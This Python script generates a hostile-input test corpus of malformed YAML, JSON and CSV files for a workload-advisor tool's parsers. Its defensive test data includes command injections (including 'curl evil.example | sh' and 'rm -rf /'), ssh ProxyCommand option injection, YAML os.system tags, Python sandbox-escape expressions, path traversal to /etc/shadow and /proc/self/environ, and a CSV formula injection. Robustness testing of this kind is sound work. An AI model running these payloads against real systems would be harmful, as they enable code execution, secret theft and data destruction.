"""Write the hostile-input corpus (tests/hostile/corpus/): run once after changing a family, then pin.

    python tests/hostile/make_corpus.py && python tests/hostile/test_corpus.py --pin

Every surface gets the same family of malformed files (:data:`COMMON`) in its own
format, plus hand-made cases of its own. Files that cannot be committed (a FIFO, a
device, a directory, 100 MB) are made at test time by ``test_corpus.py``.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "corpus"

PROFILE = """advisor_profile: 1
questionnaire: {id: default, version: 1}
answers:
  workload_name: base
"""

RULE = """id: low-latency
kind: consequence
title: Sub-millisecond p99 SLO
option: vm
attribute: performance.latency_share
when: "WHEN"
estimate:
  value: 4
rationale: >-
  A hypervisor adds tens of microseconds per round trip.
cases:
  - {name: tight, answers: {latency_p99_ms: 0.5}, expect: fires}
  - {name: relaxed, answers: {latency_p99_ms: 5}, expect: does-not-fire}
"""

TOPOLOGY = """advisor_topology: 1
name: t
sites:
  - name: dc-1
    racks:
      - {name: rack-a, hosts: [host-1, host-2]}
vms:
  - {name: vm-1, parent: host-1}
nodes:
  - {name: node-1, parent: vm-1}
  - {name: node-2, parent: host-2}
clusters:
  - {name: prod, control_plane: [node-1]}
services:
  - {name: web, pods: [node-1, node-2]}
"""

TARGETS = """advisor_targets: 1
targets:
  - {name: metal, role: bare-metal, runner: local}
  - {name: virt, role: vm, runner: local}
"""

INVENTORY = """advisor_portfolio: 1
workloads:
  - answers: {workload_name: a}
"""

QUESTIONNAIRE = """advisor_questionnaire: 1
id: q
version: 1
title: t
questions:
  - {key: name, type: str, prompt: Name?, help: h, default: x, mode: quick}
"""

SHADOW = "root:$6$saltsalt$c2VjcmV0aGFzaA:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n"

#: name -> bytes: the family every YAML/JSON surface gets.
COMMON: dict[str, bytes] = {
    "empty": b"",
    "only-comments": b"# nothing here\n# at all\n",
    "nul-byte": b"a: 1\n\x00b: 2\n",
    "invalid-utf8": b"a: \xff\xfe\xfa\n",
    "utf16": "a: 1\n".encode("utf-16"),
    "binary-garbage": bytes(range(1, 255)) * 4,
    "alias-bomb": b"a: &a [x, x, x]\nb: &b [*a, *a, *a]\nc: [*b, *b, *b]\n",
    "python-tag": b"a: !!python/object/apply:os.system ['echo owned']\n",
    "custom-tag": b"a: !evil {x: 1}\n",
    "deep-nesting": b"a: " + b"[" * 200 + b"]" * 200 + b"\n",
    "deep-mappings": b"".join(b"  " * i + b"k:\n" for i in range(120)) + b"  " * 120 + b"v\n",
    "duplicate-key": b"a: 1\na: 2\n",
    "list-at-top": b"- a\n- b\n",
    "scalar-at-top": b"just a string\n",
    "multi-document": b"a: 1\n---\nb: 2\n",
    "shadow-like": SHADOW.encode(),
    "tab-indent": b"a:\n\tb: 1\n",
    "unterminated-quote": b"a: 'open\n",
    "huge-number": b"a: 1e999\n",
    "nan-value": b"a: .nan\n",
    "escape-in-key": b"\"\\e]0;owned\\a\\e[2J\": 1\n",
    "long-key": b"k" * 20000 + b": 1\n",
    "crlf-garbage": b"a: [\r\n\r\n",
    "json-nan": b'{"a": NaN}\n',
    "merge-key": b"base: &b {x: 1}\nderived: {<<: *b}\n",
}

#: Surface -> (its valid base text, its file suffix).
FORMATS = {
    "profiles": (PROFILE, ".yaml"),
    "questionnaires": (QUESTIONNAIRE, ".yaml"),
    "topologies": (TOPOLOGY, ".yaml"),
    "inventories": (INVENTORY, ".yaml"),
    "targets": (TARGETS, ".yaml"),
    "measurements": ("", ".json"),
    "records": ("", ".json"),
    "rules": (RULE.replace("WHEN", "latency_p99_ms < 1"), ".yaml"),
}

#: Hand-made cases per surface: name -> text.
OWN: dict[str, dict[str, str]] = {
    "profiles": {
        "nan-answer": PROFILE + "  latency_p99_ms: .nan\n",
        "inf-answer": PROFILE + "  latency_p99_ms: .inf\n",
        "negative-inf-answer": PROFILE + "  latency_p99_ms: -.inf\n",
        "huge-int-answer": PROFILE + "  physical_hosts: " + "9" * 400 + "\n",
        "unknown-answer": PROFILE + "  rm_rf: true\n",
        "escape-in-name": PROFILE.replace("base", '"x\\e]0;owned\\a\\e[31m"'),
        "newline-in-name": PROFILE.replace("base", '"x\\n## Injected heading\\n[a](javascript:alert(1))"'),
        "shell-in-name": PROFILE.replace("base", "'x; curl evil.example | sh;'"),
        "long-name": PROFILE.replace("base", "n" * 5000),
        "choice-injection": PROFILE + "  workload_class: \"trading'; DROP TABLE\"\n",
        "list-for-bool": PROFILE + "  jitter_sensitive: [true]\n",
        "mapping-for-int": PROFILE + "  physical_hosts: {a: 1}\n",
        "wrong-version": PROFILE.replace("advisor_profile: 1", "advisor_profile: 99"),
        "wrong-questionnaire": PROFILE.replace("id: default", "id: ../../etc"),
        "answers-list": "advisor_profile: 1\nquestionnaire: {id: default, version: 1}\nanswers: [a, b]\n",
        "priority-out-of-range": PROFILE + "  priority_cost: 6\n",
        "percent-out-of-range": PROFILE + "  max_blast_radius_pct: 1000\n",
        "compliance-unknown": PROFILE + "  compliance: [none, 'x; rm -rf /']\n",
        "bool-as-string": PROFILE + "  jitter_sensitive: 'yes please'\n",
        "date-as-name": PROFILE.replace("base", "2026-01-01"),
    },
    "questionnaires": {
        "redos-pattern-ok": QUESTIONNAIRE.replace("default: x,", "default: aaa, pattern: '^(a+)+$',"),
        "bad-regex": QUESTIONNAIRE.replace("default: x,", "default: x, pattern: '[a-z',"),
        "backreference": QUESTIONNAIRE.replace("default: x,", r"default: x, pattern: '(a)\1',"),
        "lookahead": QUESTIONNAIRE.replace("default: x,", "default: x, pattern: '(?=a)a',"),
        "huge-repeat": QUESTIONNAIRE.replace("default: x,", "default: x, pattern: '(a{1000}){1000}',"),
        "when-import": QUESTIONNAIRE.replace("mode: quick}", "mode: quick, when: \"__import__('os')\"}"),
        "when-dunder": QUESTIONNAIRE.replace("mode: quick}", "mode: quick, when: \"name.__class__ == 'x'\"}"),
        "when-lambda": QUESTIONNAIRE.replace("mode: quick}", "mode: quick, when: \"(lambda: 1)() == 1\"}"),
        "bad-key": QUESTIONNAIRE.replace("key: name", "key: 'Name; rm'"),
        "escape-prompt": QUESTIONNAIRE.replace("prompt: Name?", 'prompt: "\\e[2J\\e]0;x\\a?"'),
    },
    "topologies": {
        "unknown-parent": TOPOLOGY.replace("parent: host-1", "parent: hots-1"),
        "own-parent": TOPOLOGY.replace("{name: vm-1, parent: host-1}", "{name: vm-1, parent: vm-1}"),
        "cycle": TOPOLOGY.replace("vms:\n  - {name: vm-1, parent: host-1}",
                                  "vms:\n  - {name: vm-1, parent: vm-2}\n  - {name: vm-2, parent: vm-1}"),
        "duplicate-host": TOPOLOGY.replace("[host-1, host-2]", "[host-1, host-1]"),
        "negative-count": TOPOLOGY.replace("pods: [node-1, node-2]", "pods: [{node: node-1, count: -5}]"),
        "huge-count": TOPOLOGY.replace("pods: [node-1, node-2]", "pods: [{node: node-1, count: 100000000000}]"),
        "nan-count": TOPOLOGY.replace("pods: [node-1, node-2]", "pods: [{node: node-1, count: .nan}]"),
        "escape-name": TOPOLOGY.replace("name: t\n", "name: \"\\e]0;x\\a\"\n"),
        "unknown-key": TOPOLOGY + "exec: rm -rf /\n",
        "wrong-version": TOPOLOGY.replace("advisor_topology: 1", "advisor_topology: 2"),
        "old-version-key": TOPOLOGY.replace("advisor_topology: 1", "version: 1"),
        "path-name": TOPOLOGY.replace("name: t\n", "name: ../../etc/passwd\n"),
        "many-unknown-parents": TOPOLOGY.replace("  - {name: vm-1, parent: host-1}\n", "".join(
            f"  - {{name: vm-{i}, parent: hots-{i}}}\n" for i in range(1, 201))).replace("parent: vm-1",
                                                                                          "parent: host-1"),
    },
    "inventories": {
        "profile-etc-shadow": "advisor_portfolio: 1\nworkloads:\n  - profile: /etc/shadow\n",
        "profile-dotdot": "advisor_portfolio: 1\nworkloads:\n  - profile: ../../../../etc/passwd\n",
        "profile-dev-zero": "advisor_portfolio: 1\nworkloads:\n  - profile: /dev/zero\n",
        "profile-proc": "advisor_portfolio: 1\nworkloads:\n  - profile: /proc/self/environ\n",
        "profile-missing": "advisor_portfolio: 1\nworkloads:\n  - profile: nothere.yaml\n",
        "profile-not-text": "advisor_portfolio: 1\nworkloads:\n  - profile: [a]\n",
        "duplicate-names": "advisor_portfolio: 1\nworkloads:\n  - answers: {workload_name: a}\n"
                           "  - answers: {workload_name: a}\n",
        "nan-answer": "advisor_portfolio: 1\nworkloads:\n  - answers: {workload_name: a, latency_p99_ms: .nan}\n",
        "unknown-answer": "advisor_portfolio: 1\nworkloads:\n  - answers: {workload_name: a, evil: 1}\n",
        "no-workloads": "advisor_portfolio: 1\nworkloads: []\n",
        "wrong-version": "advisor_portfolio: 7\nworkloads:\n  - answers: {workload_name: a}\n",
        "entry-scalar": "advisor_portfolio: 1\nworkloads:\n  - just-a-name\n",
    },
    "targets": {
        "ssh-option-host": TARGETS.replace("runner: local}\n  - {name: virt",
                                           "runner: ssh, host: '-oProxyCommand=touch /tmp/owned'}\n  - {name: virt"),
        "ssh-option-user": TARGETS.replace("runner: local}\n  - {name: virt",
                                           "runner: ssh, host: h, user: '-oProxyCommand=x'}\n  - {name: virt"),
        "ssh-space-host": TARGETS.replace("runner: local}\n  - {name: virt",
                                          "runner: ssh, host: 'a b'}\n  - {name: virt"),
        "ssh-newline-host": TARGETS.replace("runner: local}\n  - {name: virt",
                                            "runner: ssh, host: \"h\\nProxyCommand x\"}\n  - {name: virt"),
        "ssh-port-zero": TARGETS.replace("runner: local}\n  - {name: virt",
                                         "runner: ssh, host: h, port: 0}\n  - {name: virt"),
        "ssh-port-huge": TARGETS.replace("runner: local}\n  - {name: virt",
                                         "runner: ssh, host: h, port: 99999}\n  - {name: virt"),
        "unknown-runner": TARGETS.replace("runner: local}\n  - {name: virt", "runner: telnet}\n  - {name: virt"),
        "name-injection": TARGETS.replace("name: metal", "name: '$(reboot)'"),
        "two-bare-metal": TARGETS.replace("role: vm", "role: bare-metal"),
        "nan-quota": TARGETS.replace("runner: local}\n  - {name: virt", "runner: local, cpu_quota: .nan}\n"
                                     "  - {name: virt"),
        "negative-cpus": TARGETS.replace("runner: local}\n  - {name: virt", "runner: local, cpus: [-1]}\n"
                                         "  - {name: virt"),
        "unknown-key": TARGETS + "exec: rm -rf /\n",
    },
    "measurements": {
        "json-infinity": '{"advisor_measurement": 1, "x": Infinity}\n',
        "json-deep": '{"a": ' + "[" * 500 + "]" * 500 + "}\n",
        "json-array": "[1, 2, 3]\n",
        "json-truncated": '{"advisor_measurement": 1, "probes": [\n',
        "wrong-version": '{"advisor_measurement": 9}\n',
        "yaml-shadow": SHADOW,
    },
    "records": {
        "json-infinity": '{"number": 1, "x": Infinity}\n',
        "json-deep": '{"a": ' + "[" * 5000 + "]" * 5000 + "}\n",
        "json-array": "[1, 2, 3]\n",
        "json-truncated": '{"number": 1,\n',
        "not-a-record": '{"hello": "world"}\n',
    },
    "rules": {
        "when-import": RULE.replace("WHEN", "__import__('os').system('x') == 0"),
        "when-dunder": RULE.replace("WHEN", "workload_name.__class__ == 'str'"),
        "when-lambda": RULE.replace("WHEN", "(lambda x: x)(1) == 1"),
        "when-comprehension": RULE.replace("WHEN", "[x for x in compliance] == []"),
        "when-attribute": RULE.replace("WHEN", "workload_name.upper() == 'X'"),
        "when-subscript": RULE.replace("WHEN", "compliance[0] == 'none'"),
        "when-fstring": RULE.replace("WHEN", "f'{workload_name}' == 'x'"),
        "when-walrus": RULE.replace("WHEN", "(x := 1) == 1"),
        "when-eval": RULE.replace("WHEN", "eval('1') == 1"),
        "when-open": RULE.replace("WHEN", "open('/etc/shadow') == 1"),
        "when-getattr": RULE.replace("WHEN", "getattr(workload_name, 'x') == 1"),
        "when-power-bomb": RULE.replace("WHEN", "latency_p99_ms ** 99999999 > 1"),
        "when-string-bomb": RULE.replace("WHEN", "workload_name * 999999999 == 'x'"),
        "when-deep-parens": RULE.replace("WHEN", "(" * 500 + "latency_p99_ms < 1" + ")" * 500),
        "when-long": RULE.replace("WHEN", " or ".join(["latency_p99_ms < 1"] * 3000)),
        "when-unknown-fact": RULE.replace("WHEN", "latency_p99_msec < 1"),
        "when-type-mismatch": RULE.replace("WHEN", "latency_p99_ms == 'fast'"),
        "when-semicolon": RULE.replace("WHEN", "latency_p99_ms < 1; import os"),
        "when-backslash": RULE.replace("WHEN", "latency_p99_ms < 1 \\\\ 2"),
        "when-escape-chars": RULE.replace("WHEN", "workload_name == '\\\\e]0;x\\\\a'"),
        "when-empty": RULE.replace("WHEN", ""),
        "when-nan": RULE.replace("WHEN", "latency_p99_ms < nan"),
        "when-huge-literal": RULE.replace("WHEN", "latency_p99_ms < " + "9" * 5000),
        "when-null-byte": RULE.replace('"WHEN"', "\"latency_p99_ms < 1\\0\""),
        "when-class-chain": RULE.replace("WHEN", "().__class__.__bases__[0].__subclasses__() == 1"),
        "when-builtins": RULE.replace("WHEN", "__builtins__ == 1"),
        "when-globals": RULE.replace("WHEN", "globals() == 1"),
        "when-exec": RULE.replace("WHEN", "exec('import os') == 1"),
        "when-star": RULE.replace("WHEN", "max(*compliance) == 1"),
        "when-kwargs": RULE.replace("WHEN", "max(compliance, key=len) == 1"),
        "evidence-javascript-url": RULE.replace("WHEN", "latency_p99_ms < 1").replace(
            "rationale:", "evidence: ['javascript:alert(1)']\nrationale:"),
        "weight-nan": RULE.replace("WHEN", "latency_p99_ms < 1").replace("value: 4", "value: .nan"),
        "weight-inf": RULE.replace("WHEN", "latency_p99_ms < 1").replace("value: 4", "value: .inf"),
        "list-in-list": RULE.replace("WHEN", "['pci-dss', 'hipaa'] not in compliance"),
        "id-path": RULE.replace("WHEN", "latency_p99_ms < 1").replace("id: low-latency", "id: ../../x"),
    },
}


CSV_HEADER = b"workload_name,latency_p99_ms\n"

#: CSV inventories (``advisor portfolio FILE.csv``), written as inventories/csv-NAME.csv: name -> bytes.
CSV: dict[str, bytes] = {
    "ok": CSV_HEADER + b"a,5\nb,0.5\n",
    "empty": b"",
    "header-only": b"workload_name\n",
    "unknown-column": b"workload_name,rm_rf\na,1\n",
    "blank-column": b"workload_name,,\na,,\n",
    "duplicate-column": b"workload_name,workload_name\na,b\n",
    "many-columns": b",".join([b"workload_name"] * 5000) + b"\n",
    "extra-cells": b"workload_name\na,b,c\n",
    "duplicate-names": b"workload_name\na\na\n",
    "formula": b"workload_name\n=cmd|' /C calc'!A0\n",
    "unterminated-quote": b'workload_name\n"a\n',
    "text-after-quote": CSV_HEADER + b'"a"b,5\n',
    "newline-in-cell": b'workload_name\n"a\n## h"\n',
    "long-cell": b"workload_name\n" + b"x" * 200000 + b"\n",
    "nul-byte": b"workload_name\na\x00b\n",
    "invalid-utf8": b"workload_name\n\xff\xfe\xfa\n",
    "utf16": "workload_name\na\n".encode("utf-16"),
    "bom": "\ufeffworkload_name\na\n".encode(),
    "binary-garbage": bytes(range(1, 255)) * 4,
    "escape": b"workload_name\n\x1b]0;owned\x07\n",
    "nan": CSV_HEADER + b"a,nan\n",
    "inf": CSV_HEADER + b"a,inf\n",
    "huge-int": b"workload_name,physical_hosts\na," + b"9" * 500 + b"\n",
    "yaml-tag-in-cell": CSV_HEADER + b"a,!!python/object/apply:os.system ['x']\n",
    "multi-choice-junk": b"workload_name,compliance\na,none;evil\n",
    "semicolon-delimited": b"workload_name;tenancy\na;single-team\n",
    "shadow-like": SHADOW.encode(),
    "profile-etc-shadow": b"profile\n/etc/shadow\n",
    "profile-dotdot": b"profile\n../../../../etc/passwd\n",
    "profile-dev-zero": b"profile\n/dev/zero\n",
}


def main() -> None:
    shutil.rmtree(CORPUS, ignore_errors=True)
    for surface, (base, suffix) in FORMATS.items():
        folder = CORPUS / surface
        folder.mkdir(parents=True)
        for name, data in COMMON.items():
            (folder / f"{name}{suffix}").write_bytes(data)
        for name, text in OWN.get(surface, {}).items():
            (folder / f"{name}{suffix}").write_text(text, encoding="utf-8")
        if base:
            (folder / f"ok{suffix}").write_text(base, encoding="utf-8")
    for name, data in CSV.items():
        (CORPUS / "inventories" / f"csv-{name}.csv").write_bytes(data)
    shadow = CORPUS / "inventories" / "shadow-like-profile.yaml"
    shadow.write_text("advisor_portfolio: 1\nworkloads:\n  - profile: ../profiles/shadow-like.yaml\n", encoding="utf-8")
    (CORPUS / "README.md").write_text("Generated by tests/hostile/make_corpus.py: edit that script, not these files.\n",
                                      encoding="utf-8")
    print(json.dumps({s: len(list((CORPUS / s).iterdir())) for s in FORMATS}))


if __name__ == "__main__":
    main()
